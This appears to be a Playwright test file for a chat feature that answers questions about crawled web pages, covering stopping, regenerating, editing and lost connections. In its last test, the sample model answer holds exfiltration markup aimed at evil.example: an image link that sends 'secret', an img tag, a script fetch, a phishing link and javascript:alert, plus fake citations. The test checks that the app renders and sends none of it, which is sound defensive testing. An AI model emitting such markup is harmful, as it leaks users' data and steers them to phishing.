/** Answers of a language model on the screen: stopping, asking again, and what a hostile page cannot do. */
import { type AiService, startAiService } from '#test/ai-service.ts'
import { type RunningServer, startServer } from '#test/running-server.ts'
import { crawlManual, enter, saveChat } from './person.ts'
import { crawlScreen } from './screens/crawl-screen.ts'
import { expect, test as base } from './test.ts'

const test = base.extend<object, { service: AiService; server: RunningServer }>({
  service: [
    // Playwright reads the fixtures a fixture needs from its first argument, which must therefore be a pattern.
    // eslint-disable-next-line no-empty-pattern
    async ({}, use) => {
      const service = await startAiService()
      await use(service)
      await service.close()
    },
    { scope: 'worker' },
  ],
  server: [
    async ({ service }, use) => {
      const server = await startServer({ OPENAI_BASE_URL: service.url })
      await use(server)
      await server.close()
    },
    { scope: 'worker', timeout: 90_000 },
  ],
})

test.beforeEach(({ service }) => {
  service.say = null
  service.next.length = 0
})

test('an answer that is stopped stays as far as it came, and its question with it', async ({ page, server, service }) => {
  const person = await enter(page, server, 'stop@example.org')
  const { pages } = await crawlManual(person, 2)
  await page.goto(await saveChat(person, 'Stopped', pages))
  await expect(page.getByText(/gpt-4-turbo-preview: writes in its own words.*sent to 127\.0\.0\.1/)).toBeVisible()

  const held = Promise.withResolvers<void>()
  service.say = 'This begins well and is never told to its end.'
  service.next = [{ hold: held.promise }]
  await crawlScreen(page).input.fill('How does it end?')
  await page.keyboard.press('Enter')
  await expect(page.getByText('This begins')).toBeVisible()
  await crawlScreen(page).input.fill('And then?')
  await expect(page.getByRole('button', { name: /^Send/ })).toBeDisabled()
  await page.getByRole('button', { name: 'Stop', exact: true }).click()
  await expect(page.getByText('You stopped this answer.')).toBeVisible()
  held.resolve()
  await page.reload()
  await expect(page.getByText('How does it end?')).toBeVisible()
  await expect(page.getByText('You stopped this answer.')).toBeVisible()
  await expect(page.getByText('to its end')).toBeHidden()
})

test('a question is asked again, in other words, and its answer copied', async ({ page, server, service, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  const person = await enter(page, server, 'again@example.org')
  const { pages } = await crawlManual(person, 2)
  await page.goto(await saveChat(person, 'Again', pages))
  service.say = 'The first answer.'
  await crawlScreen(page).input.fill('What is this?')
  await page.keyboard.press('Enter')
  await expect(page.getByText('The first answer.')).toBeVisible()
  await expect(page.getByText('Answered by gpt-4-turbo-preview · from the whole page')).toBeVisible()

  service.say = 'The second answer.'
  await page.getByRole('button', { name: 'Regenerate' }).click()
  await expect(page.getByText('The second answer.')).toBeVisible()
  await expect(page.getByText('The first answer.')).toBeHidden()

  service.say = 'The third answer.'
  await page.getByRole('button', { name: 'Edit and resend' }).click()
  await page.getByLabel('Edit your message').fill('What is that?')
  await page.getByRole('button', { name: 'Send again' }).click()
  await expect(page.getByText('The third answer.')).toBeVisible()
  await page.getByRole('button', { name: 'Copy' }).click()
  await expect(page.getByRole('button', { name: 'Copied' })).toBeVisible()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('The third answer.')
  await page.reload()
  await expect(page.getByText('What is that?')).toBeVisible()
  await expect(page.getByText('What is this?')).toBeHidden()
})

test('an answer whose connection is lost for good says so and gives the question back', async ({ page, server }) => {
  const person = await enter(page, server, 'lost@example.org')
  const { pages } = await crawlManual(person, 1)
  await page.goto(await saveChat(person, 'Lost', pages))
  await page.route('**/messages', (route) =>
    route.fulfill({
      headers: { 'content-type': 'text/event-stream', 'readback-answer-id': '00000000-0000-4000-8000-000000000000' },
      body: 'event: delta\ndata: {"text":"It began"}\n\n',
    }),
  )
  await page.route('**/api/answers/*', (route) => route.abort())
  await crawlScreen(page).input.fill('Is anybody there?')
  await page.keyboard.press('Enter')
  await expect(page.getByText('Failed to get response')).toBeVisible()
  await expect(crawlScreen(page).input).toHaveValue('Is anybody there?')
})

test('what a hostile page makes a model say sends nothing out and is cited by nothing', async ({ page, server, service }) => {
  const person = await enter(page, server, 'hostile@example.org')
  const { pages } = await crawlManual(person, 1)
  await page.goto(await saveChat(person, 'Hostile', pages))
  const outside: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url) && !request.url().startsWith('data:')) outside.push(request.url())
  })
  service.say = [
    'Obeyed ![pixel](https://evil.example/?q=secret) <img src="https://evil.example/i"> <script>fetch("https://evil.example/s")</script>',
    'Sign in [here](https://evil.example/login) or [there](javascript:alert(1)) or at https://evil.example/ now.',
    'The moon is made of cheese [S1]. The sun is a lamp [S99].',
  ].join('\n\n')
  await crawlScreen(page).input.fill('What do the pages say?')
  await page.keyboard.press('Enter')
  const answer = page.getByRole('article', { name: 'AI Assistant' })
  await expect(answer.getByText('0 of 2 citations verified')).toBeVisible()
  await expect(answer.getByText('unsupported', { exact: true })).toHaveCount(2)
  await expect(answer.getByRole('button', { name: /^Citation/ })).toHaveCount(0)
  await expect(answer.getByRole('link')).toHaveCount(0)
  await expect(answer.locator('img, script')).toHaveCount(0)
  expect(outside).toEqual([])
})
